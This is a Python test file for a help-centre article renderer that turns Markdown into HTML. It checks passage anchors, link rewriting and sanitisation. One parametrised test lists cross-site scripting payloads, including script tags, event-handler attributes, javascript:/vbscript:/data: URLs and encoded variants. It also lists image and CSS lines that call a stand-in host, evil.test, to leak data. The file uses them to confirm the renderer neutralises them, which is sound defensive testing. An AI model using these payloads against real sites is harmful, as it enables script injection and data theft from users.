"""Articles as HTML: nothing runs, nothing is fetched, every passage has its anchor."""

import re
from datetime import UTC, date, datetime
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot import setup
from bot.web.article_html import render
from retrieval.articles import Article
from retrieval.importers.markdown import parse
from retrieval.passages import cut


def article(body: str, **changed: str) -> Article:
    """A published article."""
    given_ = {"id": "a", "locale": "en", "title": "T", "category": "c", "subcategory": ""}
    return Article(
        **(given_ | changed),
        components=(),
        questions=(),
        body=body,
        updated=date(2026, 1, 1),
        audience="public",
        version=1,
        published=True,
        author="x",
        saved_at=datetime(2026, 1, 1, tzinfo=UTC),
    )


def ids(html: str) -> list[str]:
    """The anchors of some HTML, in order."""
    return re.findall(r'\bid="([^"]*)"', html)


SAMPLES = [
    (path.name, parse(path.read_bytes(), path.name))
    for path in sorted((setup.data_folder() / "articles").rglob("*.md"))
]


def test_every_sample_article_has_the_anchors_of_its_passages() -> None:
    assert len(SAMPLES) >= 160
    for name, draft in SAMPLES:
        one = article(draft.body, id=draft.id, locale=draft.locale)
        assert ids(render(one, {}).html) == [passage.anchor for passage in cut(one)], name


BLOCKS = st.sampled_from(
    [
        "# One",
        "## Two",
        "## Two",
        "### Three `code`",
        "## 付款 方式",
        "Text here.",
        "Text here.",
        "- a\n- b",
        "1. a\n\n   more\n2. b",
        "| a | b |\n| - | -: |\n| 1 | 2 |",
        "```\ncode\n```",
        "    indented",
        "> quote",
        "<div>\nraw\n</div>",
        "See:",
        "***",
        "long " * 120,
        "[x]: https://example.com",
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(BLOCKS, min_size=1, max_size=14))
def test_anchors_stand_in_order_and_none_is_invented(blocks: list[str]) -> None:
    one = article("\n\n".join(blocks))
    expected = [passage.anchor for passage in cut(one)]
    shown = ids(render(one, {}).html)
    assert [anchor for anchor in expected if anchor in shown] == shown
    if not any(block.startswith("[x]:") for block in blocks) and any(
        not block.startswith("#") for block in blocks
    ):
        assert shown == expected


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


@pytest.mark.parametrize(
    "body",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "a <svg/onload=alert(1)> b",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&#58;alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "<javascript:alert(1)>",
        "![x](https://evil.test/leak.png)",
        "![x](https://evil.test/?q=secret 'title')",
        '[x](https://ok.test "onmouseover=alert(1)")',
        "<iframe src=https://evil.test></iframe>",
        "<style>*{background:url(https://evil.test)}</style>",
        "<math><mtext></p><script>alert(1)</script>",
        "| <b onclick=x> |\n| - |\n| <img src=x> |",
        "```html\n<script>alert(1)</script>\n```",
        '## <a id="x" href="javascript:alert(1)">h</a>',
        "[ref]\n\n[ref]: javascript:alert(1)",
    ],
)
def test_hostile_markdown_stays_text(body: str) -> None:
    html = render(article(body), {}).html
    parser = _Elements()
    parser.feed(html)
    for tag, attributes in parser.seen:
        assert tag not in {"script", "img", "svg", "iframe", "style", "math", "b"}, html
        assert set(attributes) <= {"href", "id", "rel", "class", "start"}, html
        href = attributes.get("href") or ""
        assert href.startswith(("https://", "http://", "mailto:", "/", "#")) or not href, html


def test_links_lead_to_articles_that_are_there() -> None:
    body = "[a](article:there#part), [b](article:gone), [c](https://example.com)."
    html = render(article(body), {"there": "/help/en/there"}).html
    assert 'href="/help/en/there#part"' in html
    assert "article:" not in html
    assert "b," in html
    assert 'href="https://example.com" rel="noopener noreferrer"' in html


def test_images_are_their_description_and_columns_keep_their_side() -> None:
    html = render(article("![a *picture*](x.png)\n\n| a |\n| -: |\n| 1 |"), {}).html
    assert "a picture" in html or "a *picture*" in html
    assert '<th class="right">' in html
    assert "style=" not in html
